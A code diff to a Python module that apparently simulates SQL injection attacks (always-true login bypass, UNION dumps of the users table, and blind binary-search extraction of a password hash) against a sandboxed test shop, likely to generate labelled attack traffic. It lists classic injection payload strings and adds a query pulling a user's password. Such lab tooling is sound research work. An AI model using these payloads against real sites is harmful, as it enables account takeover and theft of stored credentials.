@@ -28,6 +28,7 @@ IN_VAIN = ("'", "''", "' OR '1'='1", "\" OR 1=1 -- ", "') OR 1=1 -- ", "')) OR 1
            "' AND 1=1 -- ", "' UNION SELECT 1, 2 -- ", "' UNION ALL SELECT NULL, NULL, NULL -- ", "'; -- ", "`",
            "\" OR \"\"=\"", "') OR ('1'='1", "root' -- ", "' OR 1 -- x' --", "%27%20OR%201=1", "' AND 'a'='b",
            "' ORDER BY 7 -- ", "x' AND email IS NULL -- ", "hi' OR 'x'='y", "*/ OR 1=1 /*")  # fmt: skip
+SECRET = f"SELECT password FROM users WHERE name='{isolation.USER}'"
 Form = Mapping[str, str]
 Step = tuple[str, Form | None]
 
@@ -132,6 +133,12 @@ def end(at: socket.socket, way: str) -> None:
     at.close()
 
 
+def way_of(session: Session, *possible: str) -> str:
+    """How connections are to end; the first of what is possible where the session asks for something else."""
+    wanted = session.parameters.termination
+    return wanted if wanted in possible else possible[0]
+
+
 class User:
     """Visitors who want nothing but lamps."""
 
@@ -210,37 +217,36 @@ class Hand:
             session.outcome(_list(session, f"/{activity.removeprefix('list-')}.php"))
             return
         visit = Visit(session, session.parameters.requests + 3 if activity == "blind" else 0)
-        session.outcome({"tautology": _tautology, "union": _union, "blind": _blind}[activity](session, visit))
+        attack = {"tautology": _tautology, "union": _union, "blind": _blind}[activity]
+        session.outcome(attack(session, visit, way_of(session, "fin", "rst")))
 
     def version(self) -> str:
         """That of its Python."""
         return platform.python_version()
 
 
-def _tautology(session: Session, visit: Visit) -> bool:
+def _tautology(session: Session, visit: Visit, way: str) -> bool:
     """Log in with a condition that is always true."""
     visit.ask("/login.php", phase="browse")
     words = {"name": session.rng.choice(WORKING), "password": "x"}
     visit.ask("/login.php", words, phase="injection", then="transfer")
-    page = visit.ask("/account.php", last=session.parameters.termination)
-    visit.leave(session.parameters.termination)
+    page = visit.ask("/account.php", last=way)
+    visit.leave(way)
     return b"Welcome, " in page.text
 
 
-def _union(session: Session, visit: Visit) -> bool:
+def _union(session: Session, visit: Visit, way: str) -> bool:
     """Have a search list the table of users."""
     visit.ask("/", phase="browse")
     visit.ask(f"/search.php?q={session.rng.choice(KINDS)}")
     columns = session.rng.choice(("id, name, password", "name, email, password", "name, password, email"))
     words = f"{session.rng.getrandbits(24):06x}' UNION SELECT {columns} FROM users -- "
-    page = visit.ask(
-        f"/search.php?q={quote(words)}", None, "injection", "transfer", session.parameters.termination
-    )
-    visit.leave(session.parameters.termination)
+    page = visit.ask(f"/search.php?q={quote(words)}", phase="injection", then="transfer", last=way)
+    visit.leave(way)
     return password_hash(PASSWORD).encode() in page.text
 
 
-def _blind(session: Session, visit: Visit) -> bool:
+def _blind(session: Session, visit: Visit, way: str) -> bool:
     """Ask for a product if a character of a password's hash is past another; ``requests`` such questions."""
     product = session.rng.randrange(1, PRODUCTS + 1)
     visit.ask(f"/product.php?id={product}", phase="browse")
@@ -257,12 +263,10 @@ def _blind(session: Session, visit: Visit) -> bool:
             low, high = 0, len(HEX) - 1
             while low < high:
                 middle = (low + high) // 2
-                letter = (
-                    f"ASCII(SUBSTRING((SELECT password FROM users WHERE name='{isolation.USER}'),{place},1))"
-                )
+                letter = f"ASCII(SUBSTRING(({SECRET}),{place},1))"
                 low, high = (middle + 1, high) if holds(f"{letter}>{ord(HEX[middle])}") else (low, middle)
             told += HEX[low]
-    visit.leave(session.parameters.termination)
+    visit.leave(way)
     return told != "" and password_hash(PASSWORD).startswith(told)
 
 
